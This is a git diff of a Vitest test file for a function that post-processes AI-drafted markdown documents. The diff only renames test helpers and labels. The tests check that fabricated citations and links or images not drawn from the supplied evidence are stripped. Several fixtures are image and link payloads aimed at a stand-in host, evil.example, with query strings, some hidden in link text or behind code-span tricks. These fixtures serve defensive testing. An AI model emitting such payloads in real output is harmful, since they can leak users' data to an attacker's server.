@@ -1,4 +1,4 @@
-import { describe, expect, it, vi } from "vitest";
+import { describe, expect, test, vi } from "vitest";
 import { groundDraft } from "@/lib/ai/grounding";
 import type { Outline } from "@/lib/document-types/definition";
 import { log } from "@/lib/log";
@@ -16,8 +16,8 @@ const ground = (markdown: string, instructions = "") =>
 const [first, second] = evidence;
 const EVIL = "https://evil.example/";
 
-describe("references", () => {
-  it("are numbered in the order of the text and defined with a link to their source", async () => {
+describe("grounding: references", () => {
+  test("are numbered in the order of the text and defined with a link to their source", async () => {
     const { markdown, cited } = await ground(
       "## Problem\n\nTwo.[^E2] One.[^E1] Two.[^E2]\n\n## Goals\n\nOne.[^E1]",
     );
@@ -34,7 +34,7 @@ describe("references", () => {
     ]);
   });
 
-  it("to what was not sent are removed and counted, definitions go without being counted", async () => {
+  test("to what was not sent are removed and counted, definitions go without being counted", async () => {
     const { markdown, removedReferences, grounded } = await ground(
       "## Problem\n\nA claim.[^E99][^ctx:abc][^1]\n\n[^1]: [Made up](https://evil.example/x)\n\n## Goals\n\nB.[^E1]",
     );
@@ -44,7 +44,7 @@ describe("references", () => {
     expect(grounded).toBe(1);
   });
 
-  it("are taken by id too; code is no exception", async () => {
+  test("are taken by id too; code is no exception", async () => {
     const { markdown } = await ground(
       `## Problem\n\nA [^${first?.id}] and \`[^E99]\`.\n\n~~~\n[^E98]\n~~~`,
     );
@@ -53,8 +53,8 @@ describe("references", () => {
   });
 });
 
-describe("statements", () => {
-  it("are paragraphs, list items and rows of tables; headings, quotes and code are none", async () => {
+describe("grounding: statements", () => {
+  test("are paragraphs, list items and rows of tables; headings, quotes and code are none", async () => {
     const { statements, grounded } = await ground(
       "## Problem\n\n> quoted\n\nOne.[^E1]\n\n- two [^E1]\n- three\n  - four [^E2]\n\n| a | b |\n| - | - |\n| five | [^E1] |\n| six | |\n\n```\nno\n```",
     );
@@ -62,8 +62,8 @@ describe("statements", () => {
   });
 });
 
-describe("sections", () => {
-  it("without evidence say so and what to add, whether they hold text or not", async () => {
+describe("grounding: sections", () => {
+  test("without evidence say so and what to add, whether they hold text or not", async () => {
     const { markdown } = await ground("## Problem\n\nEverybody knows it.\n\n## Goals\n");
     expect(markdown).toContain(
       "## Problem\n\n> **No evidence in this workspace for what follows: check it before you rely on it.** Add a context item labelled user feedback.\n\nEverybody",
@@ -73,7 +73,7 @@ describe("sections", () => {
     );
   });
 
-  it("that the draft lacks are added in their place", async () => {
+  test("that the draft lacks are added in their place", async () => {
     expect((await ground("## Goals\n\nA.[^E1]")).markdown).toMatch(
       /^## Problem\n\n> \*\*No evidence.*\n\n## Goals\n\nA/,
     );
@@ -86,8 +86,8 @@ describe("sections", () => {
   });
 });
 
-describe("what was not sent", () => {
-  it.each([
+describe("grounding: what was not sent", () => {
+  test.each([
     ["![seen](https://evil.example/a.png)", "seen"],
     ["[here](https://evil.example/?q=1)", "here"],
     ["https://evil.example/x.", "`https://evil.example/x`."],
@@ -106,12 +106,12 @@ describe("what was not sent", () => {
     expect((await ground(`## Problem\n\n${line}\n`)).markdown).toContain(`\n${expected}\n`);
   });
 
-  it("does not hide in the words of a link that stays", async () => {
+  test("does not hide in the words of a link that stays", async () => {
     const line = `[<img src="//evil.example">](${first?.url})`;
     expect((await ground(`## Problem\n\n${line}`)).markdown).not.toContain("<img");
   });
 
-  it.each([
+  test.each([
     ["a code span behind an escaped mark", `a \\\` ![](${EVIL}?d=S) \`. `],
     ["a code span from an earlier line", `a \` b\nc \` ![x](${EVIL}) \` d`],
     ["HTML after a code span of an earlier line", `a \` b\nc \` <img src='${EVIL}'> \` d`],
@@ -161,7 +161,7 @@ describe("what was not sent", () => {
     expect(html.match(/id="user-content-fn-\d/g) ?? []).toHaveLength(cited.size);
   });
 
-  it.each([
+  test.each([
     ["www.ok.example/p", "www.ok.example/p"],
     ["https://ok.example/Scrum_(software)", "https://ok.example/Scrum_(software)"],
     ["https://ok.example/\\~mary/\\_next", "https://ok.example/~mary/_next"],
@@ -175,12 +175,12 @@ describe("what was not sent", () => {
     expect(removedReferences).toBe(0);
   });
 
-  it("is not reached when pages are shown in the simple way", async () => {
+  test("is not reached when pages are shown in the simple way", async () => {
     const { markdown } = await ground("## Problem\n\nWrite to mailto:pay@évil.example now.");
     expect(renderSimple(markdown).html).not.toContain('href="mailto');
   });
 
-  it("leaves the rest of the text as it is", async () => {
+  test("leaves the rest of the text as it is", async () => {
     const { markdown } = await ground(
       "## Problem\n\n- *One*.[^E1]\n- [fo\no]: //evil.example/x\n\nTwo.[^E2]",
     );
@@ -188,7 +188,7 @@ describe("what was not sent", () => {
     expect(markdown).toContain("\n\nTwo.[^2]\n");
   });
 
-  it("does not concern addresses of the evidence and of the instructions", async () => {
+  test("does not concern addresses of the evidence and of the instructions", async () => {
     const line = `[item](${first?.url}) https://ok.example/plan.`;
     expect(
       (await ground(`## Problem\n\n${line}`, "See https://ok.example/plan")).markdown,
@@ -196,7 +196,7 @@ describe("what was not sent", () => {
   });
 });
 
-it.each([
+test.each([
   "!",
   "[",
   "![",
@@ -212,7 +212,7 @@ it.each([
   "- ",
   "## a\n",
   "\u0000\ud800",
-])("carries %j without end", async (part) => {
+])("grounding: carries %j without end", async (part) => {
   vi.spyOn(log, "warn").mockImplementation(() => {});
   const { markdown } = await ground(part.repeat(64_000 / part.length));
   expect(markdown.isWellFormed()).toBe(true);
